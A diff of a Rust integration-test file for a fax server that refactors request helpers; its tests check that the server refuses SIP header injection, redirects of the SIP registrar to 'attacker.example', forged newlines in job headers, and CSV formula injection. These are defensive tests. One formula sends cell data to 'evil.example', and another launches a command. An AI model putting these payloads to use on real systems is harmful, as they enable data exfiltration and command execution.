@@ -15,28 +15,46 @@ fn id(v: &Value, pointer: &str) -> String {
         .to_owned()
 }
 
-async fn default_grouping(admin: &Api) -> String {
-    let g = admin
-        .get("/v1/groupings")
+/// A fresh `faxhub serve` with `extra` configuration (and the fast test deadlines); the directory goes
+/// with it.
+async fn supervisor(extra: &str) -> (tempfile::TempDir, SupervisorProc, Api) {
+    let dir = tempfile::tempdir().expect("dir");
+    let sup =
+        SupervisorProc::start(dir.path(), &format!("{extra}\n{FAST_CONFIG}")).expect("supervisor");
+    let admin = sup.admin();
+    (dir, sup, admin)
+}
+
+/// The body of an answer that must have `status` (`what` says which request it was).
+async fn answer(
+    request: impl std::future::Future<Output = anyhow::Result<testkit::harness::Reply>>,
+    status: u16,
+    what: &str,
+) -> Value {
+    request
         .await
-        .expect("groupings")
-        .expect_status(200)
-        .expect("200");
+        .expect(what)
+        .expect_status(status)
+        .unwrap_or_else(|e| panic!("{what}: {e}"))
+}
+
+async fn default_grouping(admin: &Api) -> String {
+    let g = answer(admin.get("/v1/groupings"), 200, "read").await;
     id(&g, "/0/id")
 }
 
 /// A fax server registered (not running) in the default grouping, dialling +1.
 async fn fax_server(admin: &Api, name: &str) -> String {
     let g = default_grouping(admin).await;
-    let made = admin
-        .post(
+    let made = answer(
+        admin.post(
             "/v1/fax-servers",
             json!({"name": name, "dial_prefixes": ["+1"], "groupings": [g]}),
-        )
-        .await
-        .expect("fax server")
-        .expect_status(201)
-        .expect("201");
+        ),
+        201,
+        "create",
+    )
+    .await;
     id(&made, "/fax_server/id")
 }
 
@@ -70,18 +88,16 @@ fn assert_private(dirs: &[PathBuf], files: &[PathBuf]) {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn sip_and_printed_settings_are_refused_outside_their_grammar() {
-    let dir = tempfile::tempdir().expect("dir");
-    let sup = SupervisorProc::start(dir.path(), FAST_CONFIG).expect("supervisor");
-    let admin = sup.admin();
+    let (_dir, _sup, admin) = supervisor("").await;
     let fs = fax_server(&admin, "fs").await;
     let path = format!("/v1/fax-servers/{fs}/settings");
     let base = json!({"sip": {"registrar": "sip.example.com", "user": "fax1", "password": "pw-123456", "transport": "udp"}});
-    admin
-        .put(&path, base.clone())
-        .await
-        .expect("put")
-        .expect_status(200)
-        .expect("a valid account is taken");
+    answer(
+        admin.put(&path, base.clone()),
+        200,
+        "a valid account is taken",
+    )
+    .await;
     let cases = [
         (
             json!({"sip": {"user": "fax1\r\nVia: SIP/2.0/UDP evil"}}),
@@ -117,86 +133,48 @@ async fn sip_and_printed_settings_are_refused_outside_their_grammar() {
         let r = admin.patch(&path, patch.clone()).await.expect("patch");
         refused(r, field, &patch.to_string());
     }
-    let view = admin
-        .get(&path)
-        .await
-        .expect("get")
-        .expect_status(200)
-        .expect("200");
+    let view = answer(admin.get(&path), 200, "read").await;
     assert_eq!(view["desired_version"], 1, "nothing refused was stored");
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn a_new_registrar_or_proxy_discards_the_stored_sip_password() {
-    let dir = tempfile::tempdir().expect("dir");
-    let sup = SupervisorProc::start(dir.path(), FAST_CONFIG).expect("supervisor");
-    let admin = sup.admin();
+    let (_dir, _sup, admin) = supervisor("").await;
     let fs = fax_server(&admin, "fs").await;
     let path = format!("/v1/fax-servers/{fs}/settings");
     let password = |v: &Value| v["settings"]["sip"]["password"].clone();
-    let put = admin
-        .put(&path, json!({"sip": {"registrar": "sip.example.com", "user": "fax1", "password": "pw-123456", "transport": "udp"}}))
-        .await
-        .expect("put")
-        .expect_status(200)
-        .expect("200");
+    let put = answer(admin.put(&path, json!({"sip": {"registrar": "sip.example.com", "user": "fax1", "password": "pw-123456", "transport": "udp"}})), 200, "replace").await;
     assert_eq!(password(&put), json!({"set": true}));
     // Other changes keep it.
-    let kept = admin
-        .patch(&path, json!({"channels": 2}))
-        .await
-        .expect("patch")
-        .expect_status(200)
-        .expect("200");
+    let kept = answer(admin.patch(&path, json!({"channels": 2})), 200, "change").await;
     assert_eq!(password(&kept), json!({"set": true}), "{kept}");
     // Sending the digest elsewhere needs the password again.
     for moved in [
         json!({"sip": {"registrar": "attacker.example"}}),
         json!({"sip": {"proxy": "attacker.example:5060"}}),
     ] {
-        admin
-            .patch(&path, json!({"sip": {"registrar": "sip.example.com", "proxy": null, "password": "pw-123456"}}))
-            .await
-            .expect("reset")
-            .expect_status(200)
-            .expect("200");
-        let v = admin
-            .patch(&path, moved.clone())
-            .await
-            .expect("patch")
-            .expect_status(200)
-            .expect("200");
+        answer(admin.patch(&path, json!({"sip": {"registrar": "sip.example.com", "proxy": null, "password": "pw-123456"}})), 200, "change").await;
+        let v = answer(admin.patch(&path, moved.clone()), 200, "change").await;
         assert_eq!(password(&v), json!({"set": false}), "{moved}: {v}");
     }
     // Given in the same request, it is kept with the new host.
-    let v = admin
-        .patch(
+    let v = answer(
+        admin.patch(
             &path,
             json!({"sip": {"registrar": "other.example", "password": "pw-654321"}}),
-        )
-        .await
-        .expect("patch")
-        .expect_status(200)
-        .expect("200");
+        ),
+        200,
+        "change",
+    )
+    .await;
     assert_eq!(password(&v), json!({"set": true}), "{v}");
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn supervisor_and_fax_server_keep_their_files_private_and_the_password_sealed() {
-    let dir = tempfile::tempdir().expect("dir");
     let https = testkit::harness::free_port();
-    let sup = SupervisorProc::start(
-        dir.path(),
-        &format!("https_listen = \"127.0.0.1:{https}\"\n{FAST_CONFIG}"),
-    )
-    .expect("supervisor");
-    let admin = sup.admin();
-    let doc = admin
-        .upload(tiny_tiff())
-        .await
-        .expect("upload")
-        .expect_status(201)
-        .expect("201");
+    let (_dir, sup, admin) = supervisor(&format!("https_listen = \"127.0.0.1:{https}\"")).await;
+    let doc = answer(admin.upload(tiny_tiff()), 201, "upload").await;
     let sha = id(&doc, "/sha256");
     let data = sup.dir.join("data");
     assert_private(
@@ -222,22 +200,12 @@ async fn supervisor_and_fax_server_keep_their_files_private_and_the_password_sea
         .await
         .expect("node");
     let path = format!("/v1/fax-servers/{fs}/settings");
-    admin
-        .put(&path, json!({"channels": 2, "sip": {"registrar": "127.0.0.1:5060", "user": "fax1", "password": "s3cret-pass-1", "transport": "udp"}}))
-        .await
-        .expect("put")
-        .expect_status(200)
-        .expect("200");
+    answer(admin.put(&path, json!({"channels": 2, "sip": {"registrar": "127.0.0.1:5060", "user": "fax1", "password": "s3cret-pass-1", "transport": "udp"}})), 200, "replace").await;
     let state = node.state_dir.join("state");
     let kept = state.join("settings.json");
     let wait_applied = || async {
         for _ in 0..100 {
-            let v = admin
-                .get(&path)
-                .await
-                .expect("get")
-                .expect_status(200)
-                .expect("200");
+            let v = answer(admin.get(&path), 200, "read").await;
             if v["applied_version"] == 1 && kept.exists() {
                 return;
             }
@@ -294,12 +262,7 @@ async fn supervisor_and_fax_server_keep_their_files_private_and_the_password_sea
     }
     assert!(sealed, "the kept password was sealed again");
     check_node();
-    let v = admin
-        .get(&path)
-        .await
-        .expect("get")
-        .expect_status(200)
-        .expect("200");
+    let v = answer(admin.get(&path), 200, "read").await;
     assert_eq!(
         (v["applied_version"].clone(), v["last_error"].clone()),
         (json!(1), Value::Null),
@@ -352,15 +315,8 @@ fn tiff_with(changes: &[(u16, u32)]) -> Vec<u8> {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn uploads_are_checked_as_the_fax_server_reads_them() {
-    let dir = tempfile::tempdir().expect("dir");
-    let sup = SupervisorProc::start(dir.path(), FAST_CONFIG).expect("supervisor");
-    let admin = sup.admin();
-    let ok = admin
-        .upload(png_declaring(1, 1))
-        .await
-        .expect("upload")
-        .expect_status(201)
-        .expect("a real PNG");
+    let (_dir, _sup, admin) = supervisor("").await;
+    let ok = answer(admin.upload(png_declaring(1, 1)), 201, "a real PNG").await;
     assert_eq!(
         (ok["media_type"].as_str(), ok["pages"].as_u64()),
         (Some("image/png"), Some(1))
@@ -402,21 +358,16 @@ async fn uploads_are_checked_as_the_fax_server_reads_them() {
     }
     // Text is paginated as rendered: 100 lines of 200 characters wrap to 300 lines, 5 pages of 63.
     let text = format!("{}\n", "x".repeat(200)).repeat(100);
-    let doc = admin
-        .upload(text.into_bytes())
-        .await
-        .expect("upload")
-        .expect_status(201)
-        .expect("201");
+    let doc = answer(admin.upload(text.into_bytes()), 201, "upload").await;
     assert_eq!(doc["pages"], 5, "{doc}");
     // So max_pages_per_job holds for text too.
     fax_server(&admin, "fs").await;
-    admin
-        .patch("/v1/settings", json!({"uploads": {"max_pages_per_job": 4}}))
-        .await
-        .expect("settings")
-        .expect_status(200)
-        .expect("200");
+    answer(
+        admin.patch("/v1/settings", json!({"uploads": {"max_pages_per_job": 4}})),
+        200,
+        "change",
+    )
+    .await;
     let r = admin
         .post(
             "/v1/jobs",
@@ -429,16 +380,9 @@ async fn uploads_are_checked_as_the_fax_server_reads_them() {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn printed_job_fields_and_far_dates_are_refused() {
-    let dir = tempfile::tempdir().expect("dir");
-    let sup = SupervisorProc::start(dir.path(), FAST_CONFIG).expect("supervisor");
-    let admin = sup.admin();
+    let (_dir, _sup, admin) = supervisor("").await;
     fax_server(&admin, "fs").await;
-    let doc = admin
-        .upload(tiny_tiff())
-        .await
-        .expect("upload")
-        .expect_status(201)
-        .expect("201");
+    let doc = answer(admin.upload(tiny_tiff()), 201, "upload").await;
     let sha = id(&doc, "/sha256");
     let cases = [
         (json!({"header": "ACME\nForged line"}), "header"),
@@ -465,12 +409,7 @@ async fn printed_job_fields_and_far_dates_are_refused() {
     let at = soon
         .format(&time::format_description::well_known::Rfc3339)
         .expect("format");
-    admin
-        .post("/v1/jobs", json!({"recipients": ["+15550100"], "documents": [sha], "send_at": at, "header": "ACME Corp. – Invoices", "retry_delay_secs": 600}))
-        .await
-        .expect("submit")
-        .expect_status(201)
-        .expect("a month ahead and a printable header are fine");
+    answer(admin.post("/v1/jobs", json!({"recipients": ["+15550100"], "documents": [sha], "send_at": at, "header": "ACME Corp. – Invoices", "retry_delay_secs": 600})), 201, "a month ahead and a printable header are fine").await;
 }
 
 async fn csv_import(api: &Api, csv: String) -> Value {
@@ -489,9 +428,7 @@ async fn csv_import(api: &Api, csv: String) -> Value {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn csv_export_defuses_formulas_and_import_reports_every_bad_line() {
-    let dir = tempfile::tempdir().expect("dir");
-    let sup = SupervisorProc::start(dir.path(), FAST_CONFIG).expect("supervisor");
-    let admin = sup.admin();
+    let (_dir, _sup, admin) = supervisor("").await;
     let entry = json!({
         "name": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
         "company": "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -499,12 +436,7 @@ async fn csv_export_defuses_formulas_and_import_reports_every_bad_line() {
         "notes": "-2+3",
         "tags": ["+x"],
     });
-    admin
-        .post("/v1/phonebook", entry.clone())
-        .await
-        .expect("create")
-        .expect_status(201)
-        .expect("201");
+    answer(admin.post("/v1/phonebook", entry.clone()), 201, "create").await;
     let export = admin
         .http
         .get(format!("{}/v1/phonebook/export?format=csv", admin.base))
@@ -549,12 +481,7 @@ async fn csv_export_defuses_formulas_and_import_reports_every_bad_line() {
         (json!(1), json!(0)),
         "{report}"
     );
-    let back = admin
-        .get("/v1/phonebook")
-        .await
-        .expect("list")
-        .expect_status(200)
-        .expect("200");
+    let back = answer(admin.get("/v1/phonebook"), 200, "read").await;
     let items = back["items"].as_array().expect("items");
     assert_eq!(items.len(), 2, "{back}");
     for item in items {
@@ -580,12 +507,7 @@ async fn csv_export_defuses_formulas_and_import_reports_every_bad_line() {
         .collect();
     assert_eq!(lines, [3, 5, 6], "{report}");
     assert_eq!(report["imported"], 3, "Ann, Cy and Fay: {report}");
-    let names = admin
-        .get("/v1/phonebook?q=cy")
-        .await
-        .expect("search")
-        .expect_status(200)
-        .expect("200");
+    let names = answer(admin.get("/v1/phonebook?q=cy"), 200, "read").await;
     assert_eq!(
         names["items"][0]["notes"], "ok",
         "Cy's line was read on its own: {names}"
@@ -594,9 +516,7 @@ async fn csv_export_defuses_formulas_and_import_reports_every_bad_line() {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn every_error_response_has_the_json_shape() {
-    let dir = tempfile::tempdir().expect("dir");
-    let sup = SupervisorProc::start(dir.path(), FAST_CONFIG).expect("supervisor");
-    let admin = sup.admin();
+    let (_dir, _sup, admin) = supervisor("").await;
     let fs = fax_server(&admin, "fs").await;
     let settings = format!("{}/v1/fax-servers/{fs}/settings", admin.base);
     let http = &admin.http;
